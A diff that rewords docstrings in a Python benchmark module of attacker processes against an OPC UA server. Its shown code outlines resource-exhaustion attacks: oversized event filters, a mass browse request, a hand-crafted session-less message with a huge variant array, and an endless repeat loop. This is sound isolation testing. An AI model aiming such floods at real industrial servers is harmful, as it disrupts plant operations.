@@ -1,6 +1,6 @@
 """Attackers of bench/isolation.py, as processes: `python -m bench.isolation_attacks NAME ADDRESS` attacks until killed.
 
-Each is an anonymous OPC UA client. What they do is within the protocol, and takes the server very long.
+Each is an anonymous OPC UA client. Its requests are valid, and take the server very long.
 """
 
 from __future__ import annotations
@@ -28,7 +28,7 @@ _LITERAL_OPERAND = 597
 
 
 async def filters(address: str) -> None:
-    """Two event items with very many select clauses each, as long as the server answers."""
+    """Create two event items with very many select clauses each, then read until the server stops answering."""
     async with Client(address, timeout=PATIENCE) as client:
         wanted = ua.CreateSubscriptionParameters()
         wanted.RequestedPublishingInterval, wanted.PublishingEnabled = 1000, True
@@ -53,7 +53,7 @@ async def filters(address: str) -> None:
 
 
 async def browse(address: str) -> None:
-    """One request to browse very many nodes."""
+    """Send one request to browse very many nodes."""
     async with Client(address, timeout=600.0) as client:
         client.uaclient.protocol.transport.set_write_buffer_limits(2**24)
         node = ua.BrowseDescription()
@@ -65,7 +65,7 @@ async def browse(address: str) -> None:
 
 
 async def message(address: str) -> None:
-    """One message without a session, whose additional header holds an array of very many empty variants."""
+    """Send one message without a session. Its additional header holds an array of very many empty variants."""
     parts = urlsplit(address)
     await asyncio.to_thread(_message, parts.hostname or "", parts.port or 0)
 
@@ -103,7 +103,7 @@ def _open_channel() -> bytes:
 
 
 def _amplified() -> bytes:
-    """GetEndpoints (OPC 10000-6, 5.2.2.16: an array of variants, each of which is one byte)."""
+    """Return a GetEndpoints request with an array of variants of one byte each (OPC 10000-6, 5.2.2.16)."""
     variants = bytes([0x80 | 24]) + struct.pack("<i", VARIANTS) + bytes(VARIANTS)
     header = bytes(2) + struct.pack("<qIIiI", 0, 1, 0, -1, 0)
     extra = b"\x01\x00" + struct.pack("<H", _LITERAL_OPERAND) + b"\x01" + struct.pack("<i", len(variants)) + variants
@@ -118,7 +118,7 @@ ATTACKS: dict[str, Callable[[str], Awaitable[Any]]] = {
 
 
 async def main(name: str, address: str) -> None:
-    """Again and again, whatever becomes of it: the server may be restarted meanwhile."""
+    """Repeat an attack. Errors are printed, because the server may be restarted meanwhile."""
     logging.disable()
     while True:
         try:
